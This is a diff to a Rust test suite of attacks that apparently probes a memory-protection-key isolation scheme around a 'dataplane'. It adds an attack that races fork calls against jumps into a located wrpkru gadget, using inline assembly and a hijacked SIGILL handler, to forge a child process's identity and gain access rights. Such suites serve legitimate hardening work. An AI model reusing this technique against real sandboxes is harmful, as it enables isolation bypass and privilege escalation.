@@ -1,6 +1,8 @@
 //! Attacks with code: instructions that change rights, brought in, or found in the dataplane.
-use crate::{Attack, Part, Targets, call, in_a_copy};
+use crate::system::share_memory;
+use crate::{Attack, Part, Targets, call, in_a_copy, is_walled};
 use std::hint::black_box;
+use std::sync::atomic::{AtomicBool, Ordering};
 
 /// Name, what stops it, and attack.
 pub const ATTACKS: &[(&str, Part, Attack)] = &[
@@ -14,6 +16,7 @@ pub const ATTACKS: &[(&str, Part, Attack)] = &[
     ("jump to the dataplane's first key switch", Part::Other, jump_to_wrpkru),
     ("jump to each of its key switches", Part::Other, jump_to_all),
     ("jumps into the midst of the gate", Part::Other, jump_into_gate),
+    ("jump to where a forked process begins", Part::Other, forge_birth),
 ];
 
 const PAGE: u64 = 4096;
@@ -180,6 +183,83 @@ fn jumps(t: &Targets, places: impl Iterator<Item = (usize, u64)>) -> Result<Stri
     match made {
         0 => Ok("there is nowhere to jump to".to_owned()),
         made => Err(format!("{made}, none came back with rights")),
+    }
+}
+
+/// While one thread makes processes, another one jumps to where they begin: it would be the new process,
+/// open the locks that are held meanwhile, and have the dataplane believe that it is a copy.
+fn forge_birth(t: &Targets) -> Result<String, String> {
+    const RIGHTS: u64 = 0x5555_5540;
+    const FOR: std::time::Duration = std::time::Duration::from_secs(2);
+    // Records of threads; the lowest free one is taken.
+    const TRIED: u64 = 8;
+    static BORN: AtomicBool = AtomicBool::new(false);
+    if !is_walled() {
+        return share_memory();
+    }
+    let mut wanted = wrpkru().map(Some).to_vec();
+    wanted.extend([0x3d, 0x40, 0x55, 0x55, 0x55, 0x0f, 0x85].map(Some));
+    // A jump's distance; cmp r14, _.
+    wanted.extend([None; 4]);
+    wanted.extend([0x49, 0x81, 0xfe].map(Some));
+    let at = find(t, &wanted)?;
+    // SAFETY: an attack: who is refused gets SIGILL, whose handler goes on behind the jump.
+    unsafe {
+        let mut action: libc::sigaction = std::mem::zeroed();
+        action.sa_sigaction = go_on as *const () as usize;
+        action.sa_flags = libc::SA_SIGINFO;
+        libc::sigaction(libc::SIGILL, &action, std::ptr::null_mut());
+    }
+    let maker = std::thread::spawn(|| {
+        // SAFETY: no arguments.
+        let own = unsafe { libc::getpid() };
+        let begin = std::time::Instant::now();
+        while begin.elapsed() < FOR {
+            // SAFETY: a child ends at once. One that is no process of its own says so.
+            unsafe {
+                let child = libc::syscall(libc::SYS_fork);
+                if child == 0 {
+                    if libc::syscall(libc::SYS_getpid) == i64::from(own) {
+                        BORN.store(true, Ordering::SeqCst);
+                        loop {
+                            libc::syscall(libc::SYS_pause);
+                        }
+                    }
+                    libc::syscall(libc::SYS_exit_group, 0);
+                }
+                libc::waitpid(child as i32, std::ptr::null_mut(), 0);
+            }
+        }
+    });
+    let mut jumps = 0u64;
+    while !maker.is_finished() && !BORN.load(Ordering::SeqCst) {
+        let record = jumps % TRIED;
+        jumps += 1;
+        // SAFETY: as above; whatever the jump changes is named.
+        unsafe {
+            std::arch::asm!(
+                "lea rdi, [rip + 2f]", "mov [rsi], rdi", "mov [rsi + 8], rsp", "jmp r9", "2:",
+                out("rdi") _, inout("rsi") &raw mut GO_ON => _, inout("r9") at => _,
+                inout("rax") RIGHTS => _, inout("rcx") 0u64 => _, inout("rdx") 0u64 => _,
+                inout("r14") record => _, out("r12") _, out("r13") _, out("r15") _,
+                clobber_abi("C"));
+        }
+    }
+    match BORN.load(Ordering::SeqCst) {
+        true => Ok(format!("after {jumps} jumps a process began in this one")),
+        false => Err(format!("{jumps} jumps, no process began in this one")),
+    }
+}
+
+/// Where a refused jump goes on: instruction and stack.
+static mut GO_ON: [u64; 2] = [0; 2];
+
+extern "C" fn go_on(_: i32, _: *mut libc::siginfo_t, context: *mut libc::c_void) {
+    // SAFETY: the kernel's or the dataplane's frame; only the thread that jumps gets here.
+    unsafe {
+        let registers = &mut (*context.cast::<libc::ucontext_t>()).uc_mcontext.gregs;
+        registers[libc::REG_RIP as usize] = GO_ON[0] as i64;
+        registers[libc::REG_RSP as usize] = GO_ON[1] as i64;
     }
 }
 
